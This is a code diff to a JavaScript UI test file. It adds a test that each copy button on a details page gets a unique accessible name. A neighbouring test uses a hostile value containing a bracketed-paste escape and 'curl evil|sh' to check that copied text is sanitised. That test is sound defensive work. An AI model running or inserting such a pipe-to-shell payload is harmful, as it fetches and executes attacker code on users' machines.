@@ -63,6 +63,19 @@ describe('details page', () => {
     expect(page.getByText('Copied')).toBeInTheDocument();
   });
 
+  it('gives each copy button a name of its own', async () => {
+    const members = [{ id: 'a' }, { id: 'b' }];
+    const bridge = createBridge({ fields: { ...fields, members } });
+    const { page, user } = await renderApp(bridge);
+    bridge.emit('window:navigate', { view: 'session', id: 's1' });
+    await user.click(await page.findByText('All fields'));
+    const names = page
+      .getAllByRole('button', { name: /^Copy / })
+      .flatMap((button) => button.getAttribute('aria-label') ?? []);
+    expect(names).toContain('Copy members 1 id');
+    expect(new Set(names).size).toBe(names.length);
+  });
+
   it('copies a value as one plain line', async () => {
     const endpointName = 'Desk\n\u001b[200~curl evil|sh\r\n\u009b';
     const bridge = createBridge({ fields: { ...fields, endpointName } });
